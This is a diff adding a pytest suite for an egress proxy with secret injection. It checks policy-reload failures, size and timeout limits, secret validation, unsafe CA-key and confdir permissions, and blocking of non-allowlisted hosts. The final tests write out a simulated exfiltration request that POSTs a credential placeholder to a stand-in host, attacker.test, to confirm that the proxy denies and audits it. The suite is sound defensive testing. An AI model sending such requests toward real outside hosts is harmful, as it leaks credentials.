@@ -1,0 +1,257 @@
+"""Every boundary gets a clear answer (issue: fail closed, and say why, at every boundary): the policy
+watcher after a file it cannot read, limits at limit-1 / limit / limit+1, secret values that must
+not be used, the confdir and CA key it must not trust, and an exfiltration attempt toward a host
+outside the allowlist attributed to its secret."""
+
+from __future__ import annotations
+
+import os
+import socket
+import ssl
+import subprocess
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from proxy.metrics import EGRESS_REQUESTS, INTERNAL_ERRORS, POLICY_RELOADS, SECRET_BLOCKED
+from tests.conftest import GITHUB, MAIN_POLICY, OPENAI, needs_root
+from tests.support.clients import curl, raw_request, read_body, read_head, tunnel
+from tests.support.proxyproc import ProxyProcess
+from tests.support.upstream import Seen
+
+pytestmark = needs_root
+
+POLICY = f"""
+apiVersion: sandgate.dev/v1alpha1
+kind: EgressPolicy
+metadata: {{name: boundaries}}
+spec:
+  allow:
+    - host: api.openai.com
+    - host: echo.example.com
+  secrets:
+    - name: openai
+      placeholder: {OPENAI.placeholder}
+      source: {{env: SG_TEST_OPENAI}}
+      hosts: [api.openai.com]
+"""
+
+
+def wait_for(cond: Callable[[], bool], timeout: float = 10) -> None:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if cond():
+            return
+        time.sleep(0.1)
+    pytest.fail("condition not met in time")
+
+
+# -- the policy watcher never dies silently (issue 12, finding 1) --------------------------------
+
+
+@pytest.mark.parametrize(
+    "broken",
+    [b"metadata: {name: rel-\xff}\n", b"[" * 600, b"\x00\x01\x02 binary", b""],
+    ids=["not-utf8", "nested-600", "binary", "empty"],
+)
+def test_a_bad_policy_file_is_counted_and_a_later_revocation_still_applies(
+    make_proxy: Callable[..., ProxyProcess], broken: bytes
+) -> None:
+    p = make_proxy(POLICY, "--secret-refresh", "3600")
+    assert curl(p.url, p.ca, "https://echo.example.com/").status == 200
+    p.policy.write_bytes(broken)
+    wait_for(lambda: p.metric(POLICY_RELOADS, result="error") == 1)
+    assert curl(p.url, p.ca, "https://echo.example.com/").status == 200  # the last good policy serves
+    # A revocation after the bad file: echo.example.com removed. It must take effect.
+    p.policy.write_text(POLICY.replace("    - host: echo.example.com\n", ""))
+    wait_for(lambda: p.metric(POLICY_RELOADS, result="success") == 1)
+    assert curl(p.url, p.ca, "https://echo.example.com/").reason == "host_not_allowed"
+    assert p.metric(INTERNAL_ERRORS, task="policy-watcher") == 0  # handled, not a crash
+    assert "Traceback" not in p.stderr()
+
+
+def test_a_bad_policy_at_start_is_exit_2_with_the_file_named(tmp_path: Path) -> None:
+    bad = tmp_path / "p.yaml"
+    bad.write_bytes(b"[" * 600)
+    out = subprocess.run([sys.executable, "-m", "sandgate", "proxy", "--policy", str(bad), "--confdir", str(tmp_path / "c")],
+                         capture_output=True, text=True, timeout=30, check=False)  # fmt: skip
+    assert out.returncode == 2 and str(bad) in out.stderr and "Traceback" not in out.stderr
+
+
+# -- limits that mean what they say (issue 12, finding 4) ------------------------------------------
+
+LIMIT = 1000
+
+
+@pytest.fixture(scope="module")
+def limited(make_proxy: Callable[..., ProxyProcess]) -> ProxyProcess:
+    return make_proxy(POLICY, "--max-request-body", str(LIMIT), "--max-header-bytes", "4096", "--header-timeout", "1.5",
+                      "--idle-timeout", "60")  # fmt: skip
+
+
+def post(proxy: ProxyProcess, body: bytes, *, chunked: bool) -> int:
+    s = tunnel(proxy.port, "echo.example.com:443", "echo.example.com", proxy.ca)
+    if chunked:
+        framing, payload = b"Transfer-Encoding: chunked\r\n", b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
+    else:
+        framing, payload = b"Content-Length: %d\r\n" % len(body), body
+    return raw_request(
+        s, b"POST /b HTTP/1.1\r\nHost: echo.example.com\r\nConnection: close\r\n" + framing + b"\r\n" + payload
+    ).status
+
+
+@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
+@pytest.mark.parametrize(
+    ("size", "status"), [(LIMIT - 1, 200), (LIMIT, 200), (LIMIT + 1, 413)], ids=["under", "at", "over"]
+)
+def test_max_request_body_counts_the_body_only(limited: ProxyProcess, chunked: bool, size: int, status: int) -> None:
+    assert post(limited, b"x" * size, chunked=chunked) == status
+
+
+def head_of(size: int, method: str = "GET", target: str = "/h") -> bytes:
+    """A request head of exactly ``size`` bytes (request line and fields, CRLFs included)."""
+    base = f"{method} {target} HTTP/1.1\r\nHost: echo.example.com\r\nX-Pad: \r\n\r\n".encode()
+    return base.replace(b"X-Pad: ", b"X-Pad: " + b"a" * (size - len(base)))
+
+
+@pytest.mark.parametrize(("size", "status"), [(4095, 200), (4096, 200), (4097, 431)], ids=["under", "at", "over"])
+def test_max_header_bytes_at_its_boundary(limited: ProxyProcess, size: int, status: int) -> None:
+    s = tunnel(limited.port, "echo.example.com:443", "echo.example.com", limited.ca)
+    head = head_of(size)
+    assert len(head) == size
+    assert raw_request(s, head).status == status
+
+
+def test_a_huge_connect_head_is_431_not_a_tunnel(limited: ProxyProcess) -> None:
+    """issue 12: a 100,000-byte CONNECT head passed the 64 KiB header limit."""
+    with socket.create_connection(("127.0.0.1", limited.port), timeout=10) as s:
+        reply = raw_request(s, b"CONNECT echo.example.com:443 HTTP/1.1\r\nHost: echo.example.com:443\r\nX-Pad: "
+                            + b"a" * 100_000 + b"\r\n\r\n")  # fmt: skip
+    assert reply.status == 431 and reply.reason == "limit_exceeded"
+
+
+def test_a_trickling_head_gets_408_at_the_header_timeout_not_the_idle_timeout(limited: ProxyProcess) -> None:
+    s = tunnel(limited.port, "echo.example.com:443", "echo.example.com", limited.ca)
+    s.settimeout(20)
+    start = time.monotonic()
+    s.sendall(b"GET /slow HTTP/1.1\r\n")
+    answer = b""
+    try:
+        for _ in range(40):
+            s.sendall(b"X-A: b\r\n")
+            time.sleep(0.25)
+    except OSError:
+        pass
+    try:
+        while chunk := s.recv(65536):
+            answer += chunk
+    except (OSError, ssl.SSLError):
+        pass
+    assert answer.startswith(b"HTTP/1.1 408") and b"limit_exceeded" in answer
+    assert time.monotonic() - start < 10  # the header timeout (1.5 s), not the idle timeout (60 s)
+
+
+# -- secret values are checked before use (issue 11, finding 5) -------------------------------------
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["sk-" + "a" * 65_536, f"sk-holds-{GITHUB.placeholder}-x", OPENAI.placeholder],
+    ids=["64-KiB", "holds-another-placeholder", "is-its-own-placeholder"],
+)
+def test_an_unusable_value_is_secret_invalid_and_never_injected(
+    make_proxy: Callable[..., ProxyProcess], upstreams: dict[str, Seen], value: str
+) -> None:
+    policy = (
+        POLICY
+        + f"""    - name: github
+      placeholder: {GITHUB.placeholder}
+      source: {{env: SG_TEST_GITHUB}}
+      hosts: [echo.example.com]
+"""
+    )
+    p = make_proxy(policy, env={"SG_TEST_OPENAI": value, "SG_TEST_GITHUB": GITHUB.real})
+    before = len(upstreams["api"].requests)
+    reply = curl(p.url, p.ca, "https://api.openai.com/v1/x", "-H", f"Authorization: Bearer {OPENAI.placeholder}")
+    assert reply.status == 503 and reply.reason == "secret_invalid"
+    assert len(upstreams["api"].requests) == before
+    assert p.metric(SECRET_BLOCKED, secret="openai", reason="secret_invalid") == 1
+
+
+def test_the_secret_length_cap_is_a_flag(make_proxy: Callable[..., ProxyProcess], upstreams: dict[str, Seen]) -> None:
+    value = "sk-" + "b" * 6000  # under the 8k default, over a 4k cap
+    bearer = f"Authorization: Bearer {OPENAI.placeholder}"
+    default = make_proxy(POLICY, env={"SG_TEST_OPENAI": value})
+    assert curl(default.url, default.ca, "https://api.openai.com/v1/cap", "-H", bearer).status == 200
+    assert upstreams["api"].requests[-1]["headers"]["authorization"] == f"Bearer {value}"
+    capped = make_proxy(POLICY, "--max-secret-bytes", "4k", env={"SG_TEST_OPENAI": value})
+    assert curl(capped.url, capped.ca, "https://api.openai.com/v1/cap", "-H", bearer).reason == "secret_invalid"
+
+
+# -- safe defaults (issue 12, finding 6) ----------------------------------------------------------
+
+
+def start(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(POLICY)
+    return subprocess.run(
+        [sys.executable, "-m", "sandgate", "proxy", "--policy", str(policy), "--listen-port", "0", "--metrics-port", "0",
+         *args],
+        capture_output=True, text=True, timeout=30, check=False, env={**os.environ, "SG_TEST_OPENAI": OPENAI.real},
+    )  # fmt: skip
+
+
+def test_a_ca_key_someone_else_can_read_is_refused(tmp_path: Path) -> None:
+    conf = tmp_path / "conf"
+    conf.mkdir(mode=0o711)
+    key = conf / "ca-key.pem"
+    key.write_text("-----BEGIN PRIVATE KEY-----\nplanted\n-----END PRIVATE KEY-----\n")
+    key.chmod(0o644)
+    out = start(tmp_path, "--confdir", str(conf))
+    assert out.returncode == 2 and "group/world" in out.stderr and "Traceback" not in out.stderr
+
+
+def test_a_confdir_owned_by_someone_else_is_refused(tmp_path: Path) -> None:
+    conf = tmp_path / "theirs"
+    conf.mkdir(mode=0o711)
+    os.chown(conf, 4242, 4242)
+    out = start(tmp_path, "--confdir", str(conf))
+    assert out.returncode == 2 and "belongs to uid 4242" in out.stderr
+
+
+def test_the_default_metrics_port_is_not_prometheus_own() -> None:
+    out = subprocess.run(
+        [sys.executable, "-m", "sandgate", "proxy", "--help"], capture_output=True, text=True, check=True
+    )
+    assert "default: 15090" in out.stdout and "9090)" not in out.stdout
+
+
+# -- an exfiltration attempt toward a host outside the allowlist (issue 13) -------------------------
+
+
+def test_a_placeholder_sent_to_a_host_outside_the_allowlist_is_attributed_to_its_secret(
+    make_proxy: Callable[..., ProxyProcess],
+) -> None:
+    p = make_proxy(MAIN_POLICY)
+    s = tunnel(p.port, "attacker.test:443", "attacker.test", p.ca)  # a TLS handshake: the CONNECT was "accepted"
+    s.sendall(f"POST /collect HTTP/1.1\r\nHost: attacker.test\r\nAuthorization: Bearer {OPENAI.placeholder}\r\n"
+              "Content-Length: 0\r\n\r\n".encode())  # fmt: skip
+    reader = s.makefile("rb")
+    status, headers = read_head(reader)
+    body = read_body(reader, headers)
+    assert status == 403 and headers["x-sandgate-reason"] == "host_not_allowed" and b"sandgate_denied" in body
+    assert p.metric(SECRET_BLOCKED, secret="openai", reason="host_not_allowed") == 1
+    record = p.audit()[-1]
+    assert record["reason"] == "host_not_allowed" and record["secret"] == "openai" and record["host"] == "attacker.test"
+
+
+def test_a_denied_connect_without_a_request_is_still_recorded_once(make_proxy: Callable[..., ProxyProcess]) -> None:
+    p = make_proxy(MAIN_POLICY)
+    before = p.metric(EGRESS_REQUESTS, decision="denied", reason="host_not_allowed")
+    with socket.create_connection(("127.0.0.1", p.port), timeout=5) as s:
+        s.sendall(b"CONNECT attacker.test:443 HTTP/1.1\r\nHost: attacker.test:443\r\n\r\n")
+        assert s.recv(1024).startswith(b"HTTP/1.1 200")
+    wait_for(lambda: p.metric(EGRESS_REQUESTS, decision="denied", reason="host_not_allowed") == before + 1)
